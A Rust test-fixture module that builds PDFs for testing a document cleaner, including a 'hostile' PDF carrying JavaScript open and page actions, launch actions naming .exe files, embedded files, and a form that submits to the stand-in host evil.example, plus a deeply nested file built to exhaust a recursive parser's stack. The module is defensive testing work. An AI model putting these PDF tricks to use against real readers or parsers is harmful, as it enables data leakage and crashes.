//! PDF fixtures built by the tests, and what the tests read back from a PDF.
//!
//! [`hostile_pdf`] has two pages of text and every kind of metadata and active content a
//! cleaner must remove, each holding a string starting with [`SECRET`]: an author, a title and
//! software in the information dictionary, XMP, a JavaScript open action and a named script, an
//! embedded file, a launch action, a web link, a form whose field submits to a server, a file
//! attachment annotation, a comment's author, and an automatic page action; and a launch action
//! and a file attachment whose kinds are indirect names, the latter's file specification
//! without a type.

use lopdf::{
    dictionary, Document, EncryptionState, EncryptionVersion, Object, ObjectId, Permissions, Stream,
};

/// Every string a clean file must not hold starts with this.
pub const SECRET: &str = "SECRET-";
/// Text on the pages, which cleaning keeps.
pub const PAGE_ONE_TEXT: &str = "Resultats NFS du 3 mars";
pub const PAGE_TWO_TEXT: &str = "Page deux conclusion";
/// A comment's text, which cleaning keeps (its author goes).
pub const COMMENT_TEXT: &str = "Commentaire du biologiste";

fn text_page(doc: &mut Document, pages: ObjectId, font: ObjectId, text: &str) -> ObjectId {
    let content = format!("BT /F1 18 Tf 72 720 Td ({text}) Tj ET");
    let content = doc.add_object(Stream::new(dictionary! {}, content.into_bytes()));
    doc.add_object(dictionary! {
        "Type" => "Page",
        "Parent" => pages,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        "Contents" => content,
        "Resources" => dictionary! { "Font" => dictionary! { "F1" => font } },
    })
}

fn literal(text: &str) -> Object {
    Object::string_literal(text)
}

/// A plain PDF of `pages` text pages: no metadata, no active content.
pub fn plain_pdf(pages: usize) -> Vec<u8> {
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let font = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
    });
    let kids: Vec<Object> = (0..pages)
        .map(|i| text_page(&mut doc, pages_id, font, &format!("Page {}", i + 1)).into())
        .collect();
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => kids, "Count" => pages as i64,
        }),
    );
    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    doc.trailer.set("Root", catalog);
    save(&mut doc)
}

/// The PDF described in the module documentation.
pub fn hostile_pdf() -> Vec<u8> {
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let font = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
    });
    let page_one = text_page(&mut doc, pages_id, font, PAGE_ONE_TEXT);
    let page_two = text_page(&mut doc, pages_id, font, PAGE_TWO_TEXT);

    let embedded = doc.add_object(Stream::new(
        dictionary! { "Type" => "EmbeddedFile" },
        format!("{SECRET}EMBEDDED patient file").into_bytes(),
    ));
    let filespec = doc.add_object(dictionary! {
        "Type" => "Filespec",
        "F" => literal(&format!("{SECRET}attachment.txt")),
        "EF" => dictionary! { "F" => embedded },
    });
    let script = doc.add_object(dictionary! {
        "Type" => "Action", "S" => "JavaScript",
        "JS" => literal(&format!("app.alert('{SECRET}JS')")),
    });
    let launch = dictionary! {
        "Type" => "Action", "S" => "Launch", "F" => literal(&format!("{SECRET}LAUNCH.exe")),
    };
    let uri = doc.add_object(dictionary! {
        "Type" => "Action", "S" => "URI", "URI" => literal(&format!("https://evil.example/{SECRET}URI")),
    });
    let submit = dictionary! {
        "Type" => "Action", "S" => "SubmitForm",
        "F" => literal(&format!("https://evil.example/{SECRET}SUBMIT")),
    };
    let rect = || vec![72.into(), 600.into(), 200.into(), 620.into()];
    let launch_link = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(), "A" => launch,
    });
    let web_link = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(), "A" => uri,
    });
    let attachment = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "FileAttachment", "Rect" => rect(), "FS" => filespec,
    });
    let comment = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Text", "Rect" => rect(),
        "T" => literal(&format!("{SECRET}COMMENT-AUTHOR")),
        "M" => literal("D:20260301120000+01'00'"),
        "Contents" => literal(COMMENT_TEXT),
    });
    let field = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "Rect" => rect(), "FT" => "Tx",
        "T" => literal("nom"), "P" => page_one, "A" => submit,
    });
    // The same tricks with their kinds written as indirect names, and a file specification
    // without its type: a viewer follows them all.
    let launch_kind = doc.add_object(Object::Name(b"Launch".to_vec()));
    let attachment_kind = doc.add_object(Object::Name(b"FileAttachment".to_vec()));
    let hidden_file = doc.add_object(Stream::new(
        dictionary! {},
        format!("{SECRET}HIDDEN embedded file").into_bytes(),
    ));
    let indirect_launch = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
        "A" => dictionary! { "S" => launch_kind, "F" => literal(&format!("{SECRET}INDIRECT.exe")) },
    });
    let indirect_attachment = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => attachment_kind,
        "FS" => dictionary! {
            "F" => literal(&format!("{SECRET}hidden.txt")),
            "EF" => dictionary! { "F" => hidden_file },
        },
    });
    let page_action = dictionary! {
        "O" => dictionary! { "S" => "JavaScript", "JS" => literal(&format!("{SECRET}PAGE-JS")) },
    };
    if let Ok(page) = doc.get_dictionary_mut(page_one) {
        page.set(
            "Annots",
            vec![
                launch_link.into(),
                web_link.into(),
                attachment.into(),
                comment.into(),
                field.into(),
                indirect_launch.into(),
                indirect_attachment.into(),
            ],
        );
        page.set("AA", page_action);
    }
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => vec![page_one.into(), page_two.into()], "Count" => 2,
        }),
    );
    let xmp = doc.add_object(Stream::new(
        dictionary! { "Type" => "Metadata", "Subtype" => "XML" },
        format!("<x:xmpmeta><dc:creator>{SECRET}XMP Dr Martin</dc:creator></x:xmpmeta>")
            .into_bytes(),
    ));
    let catalog = doc.add_object(dictionary! {
        "Type" => "Catalog",
        "Pages" => pages_id,
        "Metadata" => xmp,
        "OpenAction" => script,
        "Names" => dictionary! {
            "JavaScript" => dictionary! { "Names" => vec![literal("init"), script.into()] },
            "EmbeddedFiles" => dictionary! { "Names" => vec![literal("f"), filespec.into()] },
        },
        "AcroForm" => dictionary! { "Fields" => vec![field.into()] },
    });
    let info = doc.add_object(dictionary! {
        "Author" => literal(&format!("{SECRET}AUTHOR Dr Martin")),
        "Title" => literal(&format!("{SECRET}TITLE Dupont Marie")),
        "Producer" => literal(&format!("{SECRET}PRODUCER")),
        "Creator" => literal(&format!("{SECRET}CREATOR C:/Users/martin/patients")),
    });
    doc.trailer.set("Root", catalog);
    doc.trailer.set("Info", info);
    save(&mut doc)
}

/// A plain PDF protected by a user password.
pub fn encrypted_pdf() -> Vec<u8> {
    let mut doc = Document::load_mem(&plain_pdf(1)).expect("fixture");
    let id = Object::string_literal(b"0123456789abcdef".to_vec());
    doc.trailer.set("ID", vec![id.clone(), id]);
    let version = EncryptionVersion::V2 {
        document: &doc,
        owner_password: "owner",
        user_password: "secret",
        key_length: 128,
        permissions: Permissions::default(),
    };
    let state = EncryptionState::try_from(version).expect("encryption state");
    doc.encrypt(&state).expect("encrypt");
    save(&mut doc)
}

/// A PDF whose page tree claims, and holds, `pages` pages (all the same page object).
pub fn many_pages_pdf(pages: usize) -> Vec<u8> {
    let mut doc = Document::load_mem(&plain_pdf(1)).expect("fixture");
    let root = doc
        .catalog()
        .expect("catalog")
        .get(b"Pages")
        .expect("pages")
        .as_reference()
        .expect("ref");
    let page = doc.page_iter().next().expect("a page");
    if let Ok(tree) = doc.get_dictionary_mut(root) {
        tree.set("Kids", vec![Object::Reference(page); pages]);
        tree.set("Count", pages as i64);
    }
    save(&mut doc)
}

/// A PDF whose catalog holds an array nested `depth` arrays deep (a parser that recurses
/// without a bound runs out of stack on it).
pub fn deeply_nested_pdf(depth: usize) -> Vec<u8> {
    let mut doc = Document::load_mem(&plain_pdf(1)).expect("fixture");
    let mut nested = Object::Array(Vec::new());
    for _ in 0..depth {
        nested = Object::Array(vec![nested]);
    }
    doc.catalog_mut().expect("catalog").set("Deep", nested);
    save(&mut doc)
}

/// A PDF whose second page's content is missing (as when a repaired file lost objects), with
/// its end-of-file marker.
pub fn missing_content_pdf() -> Vec<u8> {
    let mut doc = Document::load_mem(&plain_pdf(2)).expect("fixture");
    let second = doc.page_iter().nth(1).expect("page 2");
    let content = doc.get_page_contents(second)[0];
    doc.objects.remove(&content);
    save(&mut doc)
}

/// A PDF cut in the middle.
pub fn truncated_pdf() -> Vec<u8> {
    let pdf = hostile_pdf();
    pdf[..pdf.len() / 3].to_vec()
}

fn save(doc: &mut Document) -> Vec<u8> {
    let mut out = Vec::new();
    doc.save_to(&mut out).expect("save fixture");
    out
}

/// Everything readable in a PDF: its strings, names and decompressed streams, as one text.
pub fn all_text(pdf: &[u8]) -> String {
    let doc = Document::load_mem(pdf).expect("a readable PDF");
    let mut out = String::new();
    fn walk(object: &Object, out: &mut String) {
        match object {
            Object::String(bytes, _) | Object::Name(bytes) => {
                out.push_str(&String::from_utf8_lossy(bytes));
                out.push('\n');
            }
            Object::Array(items) => items.iter().for_each(|i| walk(i, out)),
            Object::Dictionary(dict) => dict.iter().for_each(|(k, v)| {
                out.push_str(&String::from_utf8_lossy(k));
                out.push('\n');
                walk(v, out);
            }),
            Object::Stream(stream) => {
                walk(&Object::Dictionary(stream.dict.clone()), out);
                let content = stream
                    .decompressed_content()
                    .unwrap_or_else(|_| stream.content.clone());
                out.push_str(&String::from_utf8_lossy(&content));
                out.push('\n');
            }
            _ => {}
        }
    }
    walk(&Object::Dictionary(doc.trailer.clone()), &mut out);
    for object in doc.objects.values() {
        walk(object, &mut out);
    }
    out
}

/// The text a reader extracts from each page.
pub fn page_texts(pdf: &[u8]) -> Vec<String> {
    let doc = Document::load_mem(pdf).expect("a readable PDF");
    let count = doc.get_pages().len() as u32;
    (1..=count)
        .map(|page| doc.extract_text(&[page]).unwrap_or_default())
        .collect()
}
